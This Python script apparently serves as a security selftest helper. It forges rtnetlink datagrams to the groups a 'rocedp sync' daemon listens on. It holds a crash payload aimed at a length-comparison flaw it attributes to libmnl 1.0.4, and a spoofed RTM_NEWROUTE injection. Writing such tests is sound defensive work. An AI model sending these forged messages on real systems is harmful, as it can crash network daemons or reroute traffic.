# SPDX-License-Identifier: GPL-2.0
"""Send one forged datagram to the rtnetlink groups a `rocedp sync` listens
on (links, neighbours, IPv4 and IPv6 routes), as any process with
CAP_NET_ADMIN in the namespace can (selftests/security_io.sh).

  nl_forge.py crash          a message whose nlmsg_len is 0xfffffff0
  nl_forge.py route OIF      RTM_NEWROUTE 10.77.0.0/24 via 10.100.0.2 dev OIF
"""
import socket
import struct
import sys

# RTMGRP_LINK | RTMGRP_NEIGH | RTMGRP_IPV4_ROUTE | RTMGRP_IPV6_ROUTE
GROUPS = 0x1 | 0x4 | 0x40 | 0x400
RTM_NEWROUTE = 24


def hdr(length, mtype, flags=0):
    return struct.pack("=IHHII", length, mtype, flags, 0, 0)


def attr(atype, data):
    a = struct.pack("=HH", 4 + len(data), atype) + data
    return a + b"\0" * (-len(a) % 4)


def main():
    what = sys.argv[1]
    if what == "crash":
        # libmnl 1.0.4 compares the length as int: -16 "fits" any datagram
        dgram = hdr(0xFFFFFFF0, RTM_NEWROUTE) + b"\0" * 48
    elif what == "route":
        oif = int(sys.argv[2])
        # rtmsg: inet, /24, table main, proto static, scope universe, unicast
        body = struct.pack("=BBBBBBBBI", 2, 24, 0, 0, 254, 4, 0, 1, 0)
        body += attr(1, socket.inet_aton("10.77.0.0"))  # RTA_DST
        body += attr(4, struct.pack("=I", oif))  # RTA_OIF
        body += attr(5, socket.inet_aton("10.100.0.2"))  # RTA_GATEWAY
        body += attr(15, struct.pack("=I", 254))  # RTA_TABLE
        dgram = hdr(16 + len(body), RTM_NEWROUTE, 0x600) + body
    else:
        sys.exit(f"nl_forge.py: unknown datagram '{what}'")
    s = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE)
    s.bind((0, 0))
    s.sendto(dgram, (0, GROUPS))


main()
